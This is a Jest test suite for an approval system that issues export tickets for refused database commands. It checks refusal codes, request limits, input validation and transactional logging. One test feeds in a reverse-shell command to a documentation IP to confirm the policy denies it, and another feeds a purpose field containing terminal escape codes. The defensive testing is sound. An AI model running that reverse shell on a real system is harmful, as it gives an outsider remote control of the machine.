import { describe, expect, test } from '@jest/globals';
import { z } from 'zod';
import { findRefusedAct, recordRefusedAct, withdrawTicket } from '../../approvals/index.ts';
import { execute, LIMITS, newUuid, sql } from '../../foundation/index.ts';
import { lockPerson } from '../../identity/index.ts';
import { judgeCommand, type RefusedActId } from '../../policy/index.ts';
import { codeOf, DUMP, HOUR, START, type World, world } from './world.ts';

describe('a request for an export', () => {
  test('is refused for an act that was never refused, and for somebody else’s, with the same answer', async () => {
    await using house = await world();
    const others = await house.refuse('chen');
    const none = newUuid(START) as RefusedActId;
    expect(await codeOf(house.ask('aoki', { act: none }))).toBe('not_found');
    expect(await codeOf(house.ask('aoki', { act: others }))).toBe('not_found');
    expect(await findRefusedAct(house.database, house.people.aoki.person, others)).toBeUndefined();
    expect(await house.events('ticket.requested')).toEqual([]);
  });

  test('is refused for an act that no ticket can open', async () => {
    await using house = await world();
    const act = await house.refuse('aoki', 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1');
    expect((await findRefusedAct(house.database, house.people.aoki.person, act))?.judgement.verdict).toBe('deny');
    expect(await codeOf(house.ask('aoki', { act }))).toBe('request_invalid');
  });

  test('is refused when the target is closed to the requester by now', async () => {
    await using house = await world();
    const act = await house.refuse('aoki');
    await execute(
      house.database,
      sql(z.never())`UPDATE grants SET revoked_at = ${START} WHERE person_id = ${house.idOf('aoki')}`,
    );
    expect(await codeOf(house.ask('aoki', { act }))).toBe('not_permitted');
  });

  test('is refused when the requester is locked', async () => {
    await using house = await world();
    const act = await house.refuse('aoki');
    await lockPerson(house, house.people.kimura, { personId: house.idOf('aoki'), reason: 'inquiry' });
    expect(await codeOf(house.ask('aoki', { act }))).toBe('not_permitted');
  });

  test('is refused when nobody but the requester could approve it', async () => {
    await using house = await world();
    const act = await house.refuse('yamada', DUMP, 'lonely-db');
    const lock = (name: 'kimura' | 'tanaka') =>
      lockPerson(house, house.people.yamada, { personId: house.idOf(name), reason: 'away' });
    await lock('kimura');
    expect(await codeOf(house.ask('yamada', { act }))).toBe('no_approver');
    expect(await house.events('ticket.requested')).toEqual([]);
  });

  const at = (hours: number): Date => new Date(START.getTime() + hours * HOUR);
  const faults: Record<string, Parameters<World['ask']>[1]> = {
    'no rows': { rowsMax: 0 },
    'half a row': { rowsMax: 1.5 },
    'more rows than any ticket': { rowsMax: LIMITS.ticketRowsMax + 1 },
    'no bytes': { bytesMax: 0 },
    'more bytes than any ticket': { bytesMax: LIMITS.ticketBytesMax + 1 },
    'no number': { bytesMax: Number.NaN },
    'an empty window': { notBefore: at(1), notAfter: at(1) },
    'a window that ends before it begins': { notBefore: at(2), notAfter: at(1) },
    'a window in the past': { notBefore: at(-2), notAfter: at(-1) },
    'a window longer than any': { notBefore: at(0), notAfter: at(24 * LIMITS.ticketWindowDaysMax + 1) },
    'a window far away': { notBefore: at(24 * 8), notAfter: at(24 * 9) },
    'no moment': { notAfter: new Date(Number.NaN) },
    'an empty purpose': { purpose: ' \n ' },
    'a purpose too long': { purpose: 'x'.repeat(LIMITS.reasonCharactersMax + 1) },
    'a purpose that moves a cursor': { purpose: 'ok\u001b[2Jnothing to see' },
    'a purpose the database cannot keep': { purpose: 'a\0b' },
  };
  test(`is refused with ${Object.keys(faults).join(', ')}`, async () => {
    await using house = await world();
    const act = await house.refuse('aoki');
    for (const [fault, more] of Object.entries(faults)) {
      expect([fault, await codeOf(house.ask('aoki', { act, ...more }))]).toEqual([fault, 'request_invalid']);
    }
    expect(await house.events('ticket.requested')).toEqual([]);
  });

  test('is refused past the number one person may have waiting, until one is withdrawn', async () => {
    await using house = await world();
    const act = await house.refuse('aoki');
    const asked = [];
    for (let n = 0; n < LIMITS.ticketsRequestedPerPersonMax; n++) asked.push(await house.ask('aoki', { act }));
    expect(await codeOf(house.ask('aoki', { act }))).toBe('too_many_requests');
    expect(await codeOf(house.ask('chen'))).toBe('accepted');
    await withdrawTicket(house, house.people.aoki, asked[0]!.id);
    expect(await codeOf(house.ask('aoki', { act }))).toBe('accepted');
  });

  test('takes target, command, assets and digest from the act and is written with its event', async () => {
    await using house = await world();
    const act = await house.refuse('aoki');
    const ticket = await house.ask('aoki', { act, purpose: '  月次報告のため\r\n二行目 ' });
    expect(ticket).toMatchObject({
      state: 'requested',
      requester: { id: house.idOf('aoki'), name: 'Name of aoki' },
      target: { name: 'crm-db', systemTitleEn: 'Customers', systemTitleJa: '顧客管理' },
      actText: DUMP,
      purpose: '月次報告のため\n二行目',
      destination: 'workstation',
      assets: [{ kind: 'table', name: 'crm.customers', dataClass: 'personal', recordCount: 1_000 }],
      decideBy: new Date(START.getTime() + HOUR),
      approvals: [],
      redemption: null,
      result: null,
    });
    expect(ticket.judgement.digest).toBe(ticket.actDigest);
    expect(await house.events('ticket.requested')).toEqual([
      expect.objectContaining({
        actor: house.idOf('aoki'),
        ticket: ticket.id,
        body: expect.objectContaining({ actText: DUMP, actDigest: ticket.actDigest, rowsMax: 1_200 }),
      }),
    ]);
  });

  test('is suggested with room for the rows of the assets the act names', async () => {
    await using house = await world();
    const act = await findRefusedAct(house.database, house.people.aoki.person, await house.refuse('aoki'));
    expect(act?.assets.map(({ name }) => name)).toEqual(['crm.customers']);
    expect(act?.suggested.rowsMax).toBeGreaterThan(1_000);
    expect(act?.suggested.rowsMax).toBeLessThan(2_000);
  });
});

describe('a refused act', () => {
  test('is kept with its event in one transaction, or not at all', async () => {
    await using house = await world();
    const [sessionId, targetId] = [await house.session('aoki'), await house.targetId('crm-db')];
    const judgement = judgeCommand(DUMP, { mode: 'guarded-line', assets: [] });
    const undone = house.database.inTransaction(async (tx) => {
      await recordRefusedAct(tx, house.clock, {
        sessionId,
        targetId,
        personId: house.idOf('aoki'),
        text: DUMP,
        judgement,
      });
      throw new Error('the rest failed');
    });
    await expect(undone).rejects.toThrow('the rest failed');
    expect(await house.events('act.refused')).toEqual([]);
    const id = await house.refuse('aoki');
    expect((await house.events('act.refused')).map(({ body }) => body['refusedAct'])).toEqual([id]);
  });
});
